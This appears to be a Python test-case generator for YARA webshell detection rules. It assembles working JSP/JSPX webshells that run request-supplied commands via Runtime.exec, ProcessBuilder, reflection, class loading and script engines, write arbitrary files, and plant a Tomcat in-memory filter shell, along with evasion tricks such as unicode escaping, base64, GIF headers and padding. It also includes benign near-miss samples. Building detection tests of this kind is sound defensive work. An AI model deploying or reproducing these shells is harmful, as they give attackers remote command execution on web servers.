"""Generated JSP/JSPX webshell cases: input path x sink x transform x wrapper x padding.

Telling tokens are written in pieces (``t(...)``) so that this file matches no rule. The
``unicode`` transform writes the whole scriptlet as ``\\uXXXX`` escapes (Java decodes them before
parsing); the ``jspx`` wrapper puts the code in the XML syntax's scriptlet and declaration elements.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator

from tests.unit.detection.yara.webshell_cases import Case, crossed, t

OPEN, CLOSE = t("<", "%"), t("%", ">")
GETP = t("getPara", "meter")
RT = t("Run", "time")

# --- input paths: (setup statements, expression) from a parameter-name expression --------------
Input = Callable[[str], tuple[list[str], str]]
INPUTS: dict[str, Input] = {
    "getparameter": lambda n: ([], f"request.{GETP}({n})"),
    "getheader": lambda n: ([], f"request.{t('getHea', 'der')}({n})"),
    "getinputstream": lambda n: (
        [f'String body = new java.util.Scanner(request.{t("getInput", "Stream")}()).useDelimiter("\\\\A").next();'],
        "body",
    ),
    "getreader": lambda n: ([f"String line = request.{t('getRea', 'der')}().readLine();"], "line"),
    "querystring": lambda n: ([], f'java.net.URLDecoder.decode(request.{t("getQuery", "String")}(), "UTF-8")'),
    "variable": lambda n: ([f"String v = request.{GETP}({n});"], "v"),
    "session": lambda n: (
        [f'session.setAttribute("k", request.{GETP}({n}));'],
        '(String) session.getAttribute("k")',
    ),
}

NAME_TRANSFORMS: dict[str, Callable[[str], str]] = {
    "none": lambda s: f'"{s}"',
    "split": lambda s: f'"{s[:2]}" + "{s[2:]}"',
    "chr": lambda s: "new String(new char[] {" + ", ".join(str(ord(c)) for c in s) + "})",
    "reverse": lambda s: f'new StringBuilder("{s[::-1]}").reverse().toString()',
    "replace": lambda s: f'"{s[:1]}Zq{s[1:]}".replace("Zq", "")',
    "base64": lambda s: f'"{s}"',
    "comments": lambda s: f'/* p */ "{s}" /* q */',
    "unicode": lambda s: f'"{s}"',
}
TRANSFORMS = list(NAME_TRANSFORMS)
B64 = "new String(java.util.Base64.getDecoder().decode({}))"


# --- sinks: (declarations, statements) from the input expression --------------------------------
Sink = Callable[[str], tuple[list[str], list[str]]]
EXEC = t("ex", "ec")
SINKS: dict[str, tuple[str, Sink]] = {
    "runtime-exec": (
        "jsp.exec",
        lambda e: ([], [f"Process p = {RT}.getRuntime().{EXEC}({e});", "out.print(p.waitFor());"]),
    ),
    "variable-exec": (
        "jsp.exec",
        lambda e: (
            [],
            [
                f"{RT} rt = {RT}.getRuntime();",
                f'Process p = rt.{EXEC}(new String[] {{"/bin/sh", "-c", {e}}});',
                "java.io.InputStream in = p.getInputStream(); int c;",
                "while ((c = in.read()) != -1) out.print((char) c);",
            ],
        ),
    ),
    "processbuilder": (
        "jsp.exec",
        lambda e: (
            [],
            [
                f'ProcessBuilder pb = new {t("Process", "Builder")}("cmd.exe", "/c", {e});',
                "pb.redirectErrorStream(true);",
                "out.print(new java.util.Scanner(pb.start().getInputStream()).next());",
            ],
        ),
    ),
    "fileoutputstream": (
        "jsp.file-writer",
        lambda e: (
            [],
            [
                f"java.io.OutputStream o = new java.io.{t('FileOutput', 'Stream')}("
                f'application.getRealPath("/") + {e});',
                f'o.write(request.{GETP}("body").getBytes());',
                "o.close();",
            ],
        ),
    ),
    "filewriter": (
        "jsp.file-writer",
        lambda e: (
            [],
            [
                f"java.io.Writer w = new java.io.{t('File', 'Writer')}({e});",
                f'w.write(request.{GETP}("body"));',
                "w.close();",
            ],
        ),
    ),
    "randomaccessfile": (
        "jsp.file-writer",
        lambda e: (
            [],
            [
                f'java.io.RandomAccessFile f = new java.io.{t("RandomAccess", "File")}({e}, "rw");',
                f'f.write(request.{GETP}("body").getBytes());',
                "f.close();",
            ],
        ),
    ),
    "reflection": (
        "jsp.reflection",
        lambda e: (
            [],
            [
                f'Class c = Class.{t("for", "Name")}("java.lang.{RT}");',
                f'Object r = c.{t("getMe", "thod")}("getRuntime").invoke(null);',
                f'Process p = (Process) c.{t("getMe", "thod")}("{EXEC}", String.class).invoke(r, {e});',
                "out.print(p.waitFor());",
            ],
        ),
    ),
    "define-class": (
        "jsp.define-class",
        lambda e: (
            [
                f"class L extends {t('Class', 'Loader')} {{",
                "  L(ClassLoader p) { super(p); }",
                f"  Class d(byte[] b) {{ return super.{t('define', 'Class')}(null, b, 0, b.length); }}",
                "}",
            ],
            [
                f"byte[] b = java.util.Base64.getDecoder().decode({e});",
                "new L(getClass().getClassLoader()).d(b).newInstance().equals(pageContext);",
            ],
        ),
    ),
    "unsafe-define": (
        "jsp.define-class",
        lambda e: (
            [],
            [
                'java.lang.reflect.Field f = sun.misc.Unsafe.class.getDeclaredField("theUnsafe");',
                "f.setAccessible(true); sun.misc.Unsafe u = (sun.misc.Unsafe) f.get(null);",
                f"byte[] b = java.util.Base64.getDecoder().decode({e});",
                f"u.{t('defineAnonymous', 'Class')}(Object.class, b, null).newInstance();",
            ],
        ),
    ),
    "script-engine": (
        "jsp.script-engine",
        lambda e: (
            [],
            [
                f"Object r = new javax.script.{t('ScriptEngine', 'Manager')}()"
                f'.getEngineByName("js").{t("ev", "al")}({e});',
                "out.print(r);",
            ],
        ),
    ),
    "jshell": (
        "jsp.script-engine",
        lambda e: ([], [f"jdk.jshell.{t('JSh', 'ell')}.create().{t('ev', 'al')}({e}).forEach(out::print);"]),
    ),
    "groovy": (
        "jsp.script-engine",
        lambda e: ([], [f"out.print(new groovy.lang.{t('Groovy', 'Shell')}().{t('evalu', 'ate')}({e}));"]),
    ),
    "xmldecoder": (
        "jsp.script-engine",
        lambda e: (
            [],
            [
                f"java.beans.{t('XML', 'Decoder')} d = new java.beans.{t('XML', 'Decoder')}("
                f"new java.io.ByteArrayInputStream(({e}).getBytes()));",
                f"out.print(d.{t('read', 'Object')}());",
            ],
        ),
    ),
    "el-processor": (
        "jsp.script-engine",
        lambda e: ([], [f"out.print(new jakarta.el.{t('ELPro', 'cessor')}().{t('ev', 'al')}({e}));"]),
    ),
}

# --- wrappers and padding ------------------------------------------------------------------------
WRAPPERS = ("plain", "html", "gif", "jspx", "include-directive")


def unicode_escape(code: str) -> str:
    return "".join(f"\\u{ord(c):04x}" if c not in "\n" else c for c in code)


def benign_padding(size: int = 50_000) -> str:
    rows, i = [], 0
    while sum(map(len, rows)) < size:
        rows.append(f"<tr><td>{i}</td><td>${{student.name}}</td><td>${{fn:escapeXml(param.q)}}</td></tr>\n")
        i += 1
    return "<table>\n" + "".join(rows) + "</table>\n"


def xml_escape(code: str) -> str:
    return code.replace("&", "&amp;").replace("<", "&lt;")


def build(decls: list[str], stmts: list[str], *, wrapper: str, padded: bool, comments: bool, escaped: bool) -> bytes:
    if comments:
        stmts = [x for s in stmts for x in ("/* keep */", s)]
    decl_code, code = "\n".join(decls), "\n".join(stmts)
    if escaped:
        decl_code, code = unicode_escape(decl_code), unicode_escape(code)
    padding = benign_padding() if padded else ""
    if wrapper == "jspx":
        parts = [
            '<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0">',
            '<jsp:directive.page contentType="text/html"/>',
            padding.replace("${fn:escapeXml(param.q)}", "-"),
        ]
        if decls:
            parts.append(f"<jsp:{t('decla', 'ration')}>{xml_escape(decl_code)}</jsp:{t('decla', 'ration')}>")
        parts.append(f"<jsp:{t('scrip', 'tlet')}>{xml_escape(code)}</jsp:{t('scrip', 'tlet')}>")
        parts.append("</jsp:root>\n")
        return "\n".join(parts).encode()
    page = f'{OPEN}@ page contentType="text/html; charset=UTF-8" import="java.io.*" {CLOSE}\n'
    if wrapper == "include-directive":
        page += f'{OPEN}@ taglib prefix="c" uri="jakarta.tags.core" {CLOSE}\n'
        page += f'{OPEN}@ include file="/inc/head.jspf" {CLOSE}\n'
    page += padding
    if decls:
        page += f"{OPEN}!\n{decl_code}\n{CLOSE}\n"
    page += f"{OPEN}\n{code}\n{CLOSE}\n"
    if wrapper == "html":
        page = f"<html><body>\n<h1>Status</h1>\n{page}<p>ok</p></body></html>\n"
    if wrapper == "gif":
        page = "GIF89a\x01\x00\x01\x00\n" + page
    return page.encode()


def make(input_name: str, sink: str, transform: str, wrapper: str, padded: bool) -> Case:
    technique, sink_fn = SINKS[sink]
    setup, expr = INPUTS[input_name](NAME_TRANSFORMS[transform]("cmd"))
    if transform == "base64" and sink not in ("define-class", "unsafe-define"):
        expr = B64.format(expr)
    decls, stmts = sink_fn(expr)
    if transform == "unicode":
        technique = "jsp.unicode-escaped"
    elif wrapper == "jspx":
        technique = "jspx.scriptlet"
    content = build(
        decls,
        setup + stmts,
        wrapper=wrapper,
        padded=padded,
        comments=transform == "comments",
        escaped=transform == "unicode",
    )
    name = "x.jspx" if wrapper == "jspx" else "x.jsp"
    variant = (
        f"input={input_name} sink={sink} transform={transform} wrapper={wrapper} padding={'50k' if padded else 'none'}"
    )
    return Case(technique, variant, "jsp", name, content)


def el_cases() -> Iterator[Case]:
    """Expression Language one-liners (EL 3 resolves java.lang classes; forName reaches the rest)."""
    bodies = {
        "runtime": "${" + f"{RT}.getRuntime().{EXEC}(param.cmd)" + "}",
        "forname": "${" + f'"".getClass().{t("for", "Name")}(param.c).newInstance()' + "}",
        "engine": "${" + f'"".getClass().{t("for", "Name")}("javax.script.ScriptEngineManager")'
        f'.newInstance().getEngineByName("js").{t("ev", "al")}(param.c)' + "}",
        "processbuilder": "${" + f"{t('Process', 'Builder')}(param.c).start()" + "}",
    }
    for label, body in bodies.items():
        for wrapper in ("plain", "html", "gif"):
            for padded in (False, True):
                page = (benign_padding() if padded else "") + f"<p>{body}</p>\n"
                if wrapper == "html":
                    page = f"<html><body>{page}</body></html>\n"
                if wrapper == "gif":
                    page = "GIF89a\n" + page
                yield Case(
                    "jsp.expression-language",
                    f"el={label} wrapper={wrapper} padded={padded}",
                    "jsp",
                    "x.jsp",
                    page.encode(),
                )


def memshell_cases() -> Iterator[Case]:
    """A filter registered at run time on Tomcat's StandardContext; its doFilter runs the request."""
    decls = [
        f"class F implements jakarta.servlet.{t('Fil', 'ter')} {{",
        "  public void doFilter(jakarta.servlet.ServletRequest q, jakarta.servlet.ServletResponse s,",
        "      jakarta.servlet.FilterChain c) throws java.io.IOException, jakarta.servlet.ServletException {",
        f'    String x = q.{GETP}("cmd");',
        f"    if (x != null) {{ {RT}.getRuntime().{EXEC}(x); return; }}",
        "    c.doFilter(q, s);",
        "  }",
        "}",
    ]
    stmts = [
        'java.lang.reflect.Field f = application.getClass().getDeclaredField("context");',
        "f.setAccessible(true);",
        "Object ac = f.get(application);",
        'java.lang.reflect.Field g = ac.getClass().getDeclaredField("context");',
        "g.setAccessible(true);",
        f"org.apache.catalina.core.{t('Standard', 'Context')} sc =",
        "    (org.apache.catalina.core.StandardContext) g.get(ac);",
        "org.apache.tomcat.util.descriptor.web.FilterDef fd = new org.apache.tomcat.util.descriptor.web.FilterDef();",
        'fd.setFilterName("f"); fd.setFilter(new F()); fd.setFilterClass(F.class.getName());',
        f"sc.{t('addFilter', 'Def')}(fd);",
        "org.apache.tomcat.util.descriptor.web.FilterMap fm = new org.apache.tomcat.util.descriptor.web.FilterMap();",
        'fm.setFilterName("f"); fm.addURLPattern("/*");',
        f"sc.{t('addFilterMap', 'Before')}(fm);",
    ]
    for wrapper in WRAPPERS:
        for padded in (False, True):
            for escaped in (False, True):
                content = build(decls, stmts, wrapper=wrapper, padded=padded, comments=False, escaped=escaped)
                name = "x.jspx" if wrapper == "jspx" else "x.jsp"
                variant = f"filter wrapper={wrapper} padded={padded} unicode={escaped}"
                yield Case("jsp.memory-shell", variant, "jsp", name, content)


NEAR_MISSES: dict[str, list[str]] = {
    "exec-fixed": [f'Process p = {RT}.getRuntime().{EXEC}(new String[] {{"uptime"}});', "out.print(p.waitFor());"],
    "regex-exec-client": ['String q = request.GETP("q");', "out.print(org.owasp.encoder.Encode.forHtml(q));"],
    "engine-constant": [
        'Object v = new javax.script.ScriptEngineManager().getEngineByName("js").eval("1 + 2");',
        "out.print(v);",
    ],
    "log-writer": [
        'java.io.Writer w = new java.io.FileWriter(application.getRealPath("/WEB-INF/visits.log"), true);',
        'w.write(new java.util.Date() + " " + request.getRemoteAddr() + "\\n");',
        "w.close();",
    ],
    "form-echo": [
        'String name = request.GETP("name");',
        'out.print("Hello, " + org.owasp.encoder.Encode.forHtml(name));',
        'String agent = request.getHeader("User-Agent");',
    ],
    "reflection-bean": [
        'Class c = Class.forName("edu.school.Roster");',
        'Object r = c.getMethod("current").invoke(null);',
        "out.print(r);",
    ],
    "i18n": ['String title = "Caf\\u00e9 \\u4e2d\\u6587";', "out.print(title);"],
}


def near_misses() -> Iterator[Case]:
    for label, stmts in NEAR_MISSES.items():
        stmts = [s.replace("GETP", GETP) for s in stmts]
        for wrapper in ("plain", "jspx", "html"):
            for padded in (False, True):
                content = build([], stmts, wrapper=wrapper, padded=padded, comments=False, escaped=False)
                yield Case(
                    "jsp.near-miss", f"{label} wrapper={wrapper} padded={padded}", "jsp", "ok.jsp", content, False
                )
    client = (
        f'{OPEN} String q = request.{GETP}("q"); {CLOSE}\n<script>\n'
        "var m = /id=(\\d+)/.exec(location.search); var p = new Process(m);\n</script>\n"
    )
    yield Case("jsp.near-miss", "client-side regex exec", "jsp", "ok.jsp", client.encode(), False)
    template = "const id = `${/id=(\\d+)/.exec(location.search)[1]}`;\nconst t = `${Date.now()} ${cls.forName}`;\n"
    yield Case("jsp.near-miss", "javascript template literal", "jsp", "app.js", template.encode(), False)


def cases() -> Iterator[Case]:
    yield from crossed(make, list(INPUTS), list(SINKS), TRANSFORMS, WRAPPERS)
    yield from el_cases()
    yield from memshell_cases()
    yield from near_misses()
